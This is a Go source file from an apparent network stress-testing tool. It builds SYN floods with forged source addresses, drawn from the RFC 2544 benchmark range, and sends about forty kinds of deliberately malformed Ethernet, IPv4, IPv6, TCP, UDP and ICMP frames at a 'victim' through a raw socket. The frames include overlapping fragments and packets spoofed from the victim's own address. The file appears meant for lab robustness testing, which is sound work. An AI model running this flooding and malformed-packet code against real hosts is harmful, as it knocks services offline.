package flood

import (
	"context"
	"encoding/binary"
	"math/rand/v2"
	"net/netip"

	"pith/service/packet"
)

// stranger is the hardware address that frames come from.
var stranger = packet.MAC{0x52, 0x54, 0x00, 0x66, 0x66, 0x66}

// strangers is the network whose addresses frames claim to be from: it is for
// benchmarks (RFC 2544, appendix C.2.2), and nobody in a lab has one.
var strangers = [2]byte{198, 18}

func strange(random *rand.Rand) netip.Addr {
	return netip.AddrFrom4([4]byte{strangers[0], strangers[1], byte(random.Uint32()), byte(1 + random.IntN(254))})
}

// syn is a SYN to the victim's port from an address and port of nobody's.
func (a *attack) syn(random *rand.Rand) []byte {
	return a.tcp(random, packet.SYN, func(b []byte) {}, nil)
}

// tcp is a segment to the victim; spoil changes it before its checksum is made.
func (a *attack) tcp(random *rand.Rand, flags byte, spoil func(tcp []byte), options []byte) []byte {
	p, b := a.ip(strange(random), packet.TCP, 20+len(options))
	binary.BigEndian.PutUint16(b, uint16(1024+random.IntN(60000)))
	binary.BigEndian.PutUint16(b[2:], a.Addr.Port())
	binary.BigEndian.PutUint32(b[4:], random.Uint32())
	b[12], b[13] = byte(20+len(options))/4<<4, flags
	binary.BigEndian.PutUint16(b[14:], 65535)
	copy(b[20:], options)
	spoil(b)
	p.SumTransport()
	return p.Frame.Bytes()
}

// udp is a datagram of n bytes to the victim.
func (a *attack) udp(random *rand.Rand, n int, spoil func(udp []byte)) []byte {
	p, b := a.ip(strange(random), packet.UDP, 8+n)
	binary.BigEndian.PutUint16(b, uint16(1024+random.IntN(60000)))
	binary.BigEndian.PutUint16(b[2:], a.Addr.Port())
	binary.BigEndian.PutUint16(b[4:], uint16(8+n))
	p.SumTransport()
	spoil(b)
	return p.Frame.Bytes()
}

// ip is a packet to the victim with n bytes behind its header.
func (a *attack) ip(src netip.Addr, protocol uint8, n int) (*packet.Packet, []byte) {
	p, b := packet.NewIP(packet.IPHeader{Src: src, Dst: a.Addr.Addr(), Protocol: protocol, TTL: 64}, n)
	p.SetEthernet(a.MAC, stranger, 0)
	return p, b
}

// header is a datagram whose IP header was changed, with a checksum that fits.
func (a *attack) header(random *rand.Rand, spoil func(ip []byte)) []byte {
	f := a.udp(random, 24, func([]byte) {})
	ip := f[packet.EthernetLen:]
	spoil(ip)
	ip[10], ip[11] = 0, 0
	binary.BigEndian.PutUint16(ip[10:], packet.Checksum(ip[:20]))
	return f
}

// raw is a frame with anything as its payload.
func (a *attack) raw(etherType uint16, payload ...byte) []byte {
	f, b := packet.Ethernet(a.MAC, stranger, 0, etherType, len(payload))
	copy(b, payload)
	return f.Bytes()
}

// liar makes one kind of frame that lies.
type liar struct {
	name string
	make func(a *attack, random *rand.Rand) []byte
}

func put(at int, v byte) func([]byte) { return func(b []byte) { b[at] = v } }

func put16(at int, v uint16) func([]byte) {
	return func(b []byte) { binary.BigEndian.PutUint16(b[at:], v) }
}

// badHeader, badSegment, badDatagram and badFrame are liars of one field or so.
func badHeader(name string, spoil func([]byte)) liar {
	return liar{name, func(a *attack, random *rand.Rand) []byte { return a.header(random, spoil) }}
}

func badSegment(name string, flags byte, spoil func([]byte), options ...byte) liar {
	return liar{name, func(a *attack, random *rand.Rand) []byte { return a.tcp(random, flags, spoil, options) }}
}

func badDatagram(name string, spoil func([]byte)) liar {
	return liar{name, func(a *attack, random *rand.Rand) []byte { return a.udp(random, 24, spoil) }}
}

func badFrame(name string, etherType uint16, payload ...byte) liar {
	return liar{name, func(a *attack, random *rand.Rand) []byte { return a.raw(etherType, payload...) }}
}

// liars are all kinds.
var liars = []liar{
	badFrame("a header and nothing behind", packet.EtherIPv4),
	badFrame("an EtherType of nobody's", 0x1234, 1, 2, 3),
	badFrame("a length in place of an EtherType", 1500, 1, 2, 3),
	badFrame("a tag cut short", packet.EtherVLAN, 0),
	badFrame("tags in tags", packet.EtherVLAN, 0, 1, 0x81, 0, 0, 2, 0x81, 0, 0, 3, 0x81, 0),
	badFrame("ARP cut short", packet.EtherARP, 0, 1, 8, 0, 6, 4, 0, 1),
	badFrame("ARP of other lengths", packet.EtherARP, append([]byte{0, 1, 8, 0, 255, 255, 0, 1}, make([]byte, 20)...)...),
	badFrame("IPv4 cut short", packet.EtherIPv4, 0x45, 0, 0, 40),
	badFrame("IPv6 cut short", packet.EtherIPv6, 0x60, 0, 0, 0, 0xff, 0xff),
	badFrame("IPv6 of extensions without end", packet.EtherIPv6, extensions(40)...),
	badHeader("IPv4 of version 5", put(0, 0x55)),
	badHeader("an IPv4 header of 16 bytes", put(0, 0x44)),
	badHeader("an IPv4 header longer than the packet", put(0, 0x4f)),
	badHeader("a total length beyond the frame", put16(2, 65535)),
	badHeader("a total length within the header", put16(2, 19)),
	badHeader("a TTL of nothing", put(8, 0)),
	badHeader("from a group", put(12, 224)),
	badHeader("from loopback", put(12, 127)),
	badHeader("from everybody", func(ip []byte) { copy(ip[12:16], "\xff\xff\xff\xff") }),
	badHeader("from the victim itself", func(ip []byte) { copy(ip[12:16], ip[16:20]) }),
	badHeader("a first fragment of what never ends", put16(6, 0x2000)),
	badHeader("a fragment beyond 65,535", put16(6, 0x1fff)),
	badHeader("fragments that overlap", put16(6, 0x2001)),
	badHeader("a protocol of nobody's", put(9, 253)),
	{"a wrong IPv4 checksum", func(a *attack, random *rand.Rand) []byte {
		f := a.udp(random, 24, func([]byte) {})
		f[packet.EthernetLen+10] ^= 0xff
		return f
	}},
	badSegment("a data offset of nothing", packet.SYN, put(12, 0)),
	badSegment("a data offset beyond the segment", packet.SYN, put(12, 0xf0)),
	badSegment("SYN and FIN", packet.SYN|packet.FIN, func([]byte) {}),
	badSegment("all flags", 0xff, func([]byte) {}),
	badSegment("no flag", 0, func([]byte) {}),
	badSegment("from port 0", packet.SYN, put16(0, 0)),
	badSegment("ACK of nothing", packet.ACK|packet.PSH, func([]byte) {}),
	badSegment("an option of length 0", packet.SYN, func([]byte) {}, 2, 0, 5, 180),
	badSegment("an option beyond the header", packet.SYN, func([]byte) {}, 1, 1, 8, 10),
	badSegment("a segment size of 0", packet.SYN, func([]byte) {}, 2, 4, 0, 0),
	badDatagram("a UDP length of nothing", put16(4, 0)),
	badDatagram("a UDP length beyond the packet", put16(4, 65535)),
	badDatagram("from UDP port 0", put16(0, 0)),
	badDatagram("a wrong UDP checksum", put16(6, 0xdead)),
	{"ICMP cut short", func(a *attack, random *rand.Rand) []byte {
		p, b := a.ip(strange(random), packet.ICMP, 4)
		b[0] = 8
		p.SumTransport()
		return p.Frame.Bytes()
	}},
	{"an ICMP error that quotes noise", func(a *attack, random *rand.Rand) []byte {
		p, b := a.ip(strange(random), packet.ICMP, 36)
		for i := range b {
			b[i] = byte(random.Uint32())
		}
		b[0], b[1] = 3, 4
		p.SumTransport()
		return p.Frame.Bytes()
	}},
}

// extensions is an IPv6 packet of n destination options and nothing else.
func extensions(n int) []byte {
	b := make([]byte, 40+8*n)
	b[0], b[6], b[7] = 0x60, packet.Options6, 64
	binary.BigEndian.PutUint16(b[4:], uint16(8*n))
	b[8], b[24] = 0xfe, 0xfe // link-local, to link-local
	b[9], b[25] = 0x80, 0x80
	for i := range n {
		b[40+8*i] = packet.Options6
	}
	return b
}

// lie chooses a kind of frame, and damages a byte of it one time in four.
func (a *attack) lie(random *rand.Rand) []byte {
	f := liars[random.IntN(len(liars))].make(a, random)
	if random.IntN(4) == 0 {
		f[packet.EthernetLen-2+random.IntN(len(f)-packet.EthernetLen+2)] = byte(random.Uint32())
	}
	return f
}

func syns(ctx context.Context, a *attack) error   { return a.frames(ctx, a.syn) }
func frames(ctx context.Context, a *attack) error { return a.frames(ctx, a.lie) }

// frames sends what next makes.
func (a *attack) frames(ctx context.Context, next func(*rand.Rand) []byte) error {
	s, err := openSocket(a.Device)
	if err != nil {
		return err
	}
	defer s.close()
	random := a.random()
	var failure error
	a.pace(ctx, func() {
		switch err := s.send(next(random)); {
		case err == nil:
			a.sent.Add(1)
		case !isFull(err):
			failure = err
		}
	})
	return failure
}
